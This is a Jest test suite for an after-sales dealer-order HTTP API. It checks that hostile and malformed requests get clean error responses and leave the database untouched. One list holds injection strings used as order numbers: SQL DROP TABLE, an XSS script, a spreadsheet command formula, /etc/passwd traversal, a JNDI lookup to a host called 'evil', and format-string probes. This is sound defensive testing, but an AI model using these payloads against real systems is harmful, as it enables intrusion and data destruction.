import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { z } from 'zod';
import { VirtualClock } from '../../src/clock';
import { loadMasterData, readMasterData } from '../../src/installation/master-data';
import { startSystemsHost, type SystemsHost } from '../../src/installation/systems-host';
import { createLogger } from '../../src/log';
import { loadDirectory } from '../../src/people/directory-file';
import { createSystemClients } from '../../src/systems/clients';
import { readFingerprints, type Fingerprint, type FingerprintReader } from '../support/fingerprint';
import { sendRaw } from '../support/send-raw';
import { createTestDatabase, type TestDatabase } from '../support/test-database';
import { bodies } from './requests/bodies';
import { headers } from './requests/headers';
import { incidents } from './requests/incidents';
import { paths } from './requests/paths';
import { returned, returns } from './requests/returns';
import { scrap } from './requests/scrap';
import { changed, get, keyed, order, type Sent } from './requests/sent';
import { warranty } from './requests/warranty';

/**
 * Hostile and sloppy requests over HTTP, each with the answer that it gets. Unless a row says otherwise it is
 * a dealer's good order, sent by POST with the dealers' key and a fresh Idempotency-Key.
 * (Rows that hold for every system alike, such as broken JSON: src/http/system-app.test.ts.)
 */

/** Texts that some program may take for a command. Here they are what a dealer calls an order. */
const onlyText = [
  "'); DROP TABLE dealer_order; --",
  '<script>alert(1)</script>',
  "=cmd|' /C calc'!A0",
  '../../etc/passwd',
  '${jndi:ldap://evil/a}',
  '{{7*7}} %s%n',
  '\u202Egnp.H-1\u200B',
  '订单🛵-１',
];

let database: TestDatabase;
let host: SystemsHost;
let books: FingerprintReader;
let untouched: Fingerprint;
beforeAll(async () => {
  const root = join(import.meta.dirname, '..', '..');
  database = await createTestDatabase();
  host = await startSystemsHost({
    adminUrl: database.url,
    clock: new VirtualClock(new Date('2026-09-07T09:00:00+08:00')),
    logger: createLogger('silent'),
    apiKeys: { operator: 'operators-key', dealers: 'dealers-key' },
    locale: 'zh-CN',
    directory: await loadDirectory(join(root, 'src', 'people', 'demo-people.json')),
    port: 0,
  });
  const clients = createSystemClients((system) => `${host.url}/${system}`, 'operators-key');
  await loadMasterData(clients, await readMasterData(join(root, 'test', 'fixtures', 'scenario-fixture.json')), 'fixture');
  expect((await send(keyed('of-the-good-order'))).status).toBe(200);
  expect((await send(returned({ dealerNo: 'D-101', frameNo: 'V-2001' }))).text).toBe('{"caseNo":"VR-202609-001"}');
  books = await readFingerprints(database.url);
  untouched = await books.read();
});
afterAll(async () => {
  await books.close();
  await host.stop();
  await database.drop();
});

let serial = 0;
const problem = z.strictObject({
  type: z.string().startsWith('urn:aftersales-flows:problem:'),
  title: z.string(),
  status: z.number(),
  detail: z.string().min(1).max(2000),
  instance: z.string(),
  code: z.string(),
  errors: z.array(z.strictObject({ field: z.string(), detail: z.string().min(1) })).optional(),
});

describe.each([
  ['body', bodies],
  ['incident', incidents],
  ['header', headers],
  ['path', paths],
  ['return', returns],
  ['scrap', scrap],
  ['warranty', warranty],
])('%s:', (_where, rows) => {
  // Jest hands a callback to a test that names more than its row has.
  test.each(rows)('%s', async (...[, sent, status, code, field]) => {
    const answer = await send(sent);
    expect(answer.type).toBe('application/problem+json; charset=utf-8');
    expect(answer.text.length).toBeLessThan(20_000);
    expect(answer.text).not.toMatch(/node_modules|\.ts:|select |insert into/);
    const told = problem.parse(JSON.parse(answer.text));
    expect({ http: answer.status, status: told.status, code: told.code, field: told.errors?.[0]?.field }).toEqual({ http: status, status, code, field });
    expect(await books.read()).toEqual(untouched);
  });
});

test('the report of open parts is read over all systems', async () => {
  const { status, text: answer } = await send({ ...get('/reports/open-parts'), headers: { 'x-api-key': 'operators-key' } });
  expect([status, JSON.parse(answer)]).toEqual([200, { openParts: [], expectedParts: [], uncreditedParts: [], uncreditedAmount: '0.00', splitLists: [] }]);
});

test.each(onlyText)('only text: %s', async (dealerOrderNo) => {
  const { status, text: answer } = await send({ body: changed({ dealerOrderNo }) });
  expect(status).toBe(200);
  const { orderNo } = z.object({ orderNo: z.string() }).parse(JSON.parse(answer));
  const view = await send(get(`/order-desk/orders/${orderNo}`));
  expect(view.type).toBe('application/json; charset=utf-8');
  expect(JSON.parse(view.text)).toMatchObject({ dealerOrderNo, lines: [], state: 'received' });
});

test('a path asked in the wrong way says which ways there are', async () => {
  expect(await send({ method: 'PATCH' })).toMatchObject({ status: 405, allow: 'POST, GET' });
});

function send({ path = '/order-desk/orders', headers: given = {}, body = JSON.stringify(order), ...sent }: Sent) {
  const usual = { 'content-type': 'application/json', 'x-api-key': 'dealers-key', 'idempotency-key': `hostile-${(serial += 1)}` };
  return sendRaw(host.url, { ...sent, path, headers: { ...usual, ...given }, body });
}
